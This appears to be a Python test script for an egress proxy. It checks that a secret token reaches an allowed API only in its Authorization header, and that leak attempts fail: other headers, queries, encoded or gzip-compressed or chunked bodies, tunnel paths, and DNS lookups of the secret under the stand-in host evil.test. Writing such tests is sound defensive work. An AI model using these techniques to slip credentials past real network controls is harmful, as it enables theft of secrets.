import base64, gzip
OWN = GIVEN["placeholder"]
percent = "".join("%%%02x" % byte for byte in OWN.encode())
escaped = "".join("\\u%04x" % byte for byte in OWN.encode())
basic = base64.b64encode(("user:" + OWN).encode()).decode()
expect("where it belongs", lambda: within(request("/v1", headers="Authorization: Bearer %s\r\n" % OWN), trust=TRUST))
expect("a request without it", lambda: within(request("/open", method="POST", body="harmless"), trust=TRUST))
attempt("in another header", lambda: within(request("/v1", headers="X-Other: %s\r\n" % OWN)))
attempt("in the name of the program", lambda: within(request("/v1", headers="User-Agent: a/%s\r\n" % OWN)))
attempt("in a query", lambda: within(request("/v1?q=" + OWN)))
attempt("in a query, percent-encoded", lambda: within(request("/v1?q=" + percent)))
attempt("in its header, elsewhere", lambda: within(request("/open", headers="Authorization: Bearer %s\r\n" % OWN, method="POST", body="x")))
attempt("in its header, as Basic", lambda: within(request("/open", headers="Authorization: Basic %s\r\n" % basic, method="POST", body="x")))
attempt("in a body", lambda: within(request("/open", method="POST", body=OWN)))
attempt("in JSON, escaped", lambda: within(request("/open", method="POST", body='{"a": "%s"}' % escaped)))


def body(head, *pieces):
    connection = secure(connect(ALLOWED + ":443"), ALLOWED)
    connection.sendall(head.encode())
    for piece in pieces:
        time.sleep(0.05)
        connection.sendall(piece)
    return passed(answer(connection))


packed = gzip.compress(OWN.encode())
half = len(OWN) // 2
post = "POST /open HTTP/1.1\r\nHost: api.allowed.test\r\n"
attempt("in a body that is packed", lambda: body(post + "Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(packed), packed))
attempt("in a body, in two writes", lambda: body(post + "Content-Length: %d\r\n\r\n" % len(OWN), OWN[:half].encode(), OWN[half:].encode()))
chunk = lambda text: b"%x\r\n%s\r\n" % (len(text), text.encode())
attempt("in two chunks", lambda: body(post + "Transfer-Encoding: chunked\r\n\r\n", chunk(OWN[:half]), chunk(OWN[half:]) + b"0\r\n\r\n"))
attempt("in a path over plain HTTP", lambda: plain("tunnel.allowed.test", "/" + OWN))
attempt("in a header of CONNECT", lambda: within(request("/v1"), headers="Host: api.allowed.test:443\r\nX: %s\r\n" % OWN))
attempt("in a name", lambda: within(request("/"), OWN + ".evil.test"))
attempt("in a name that is looked up", lambda: by_name(OWN + ".evil.test", 80))
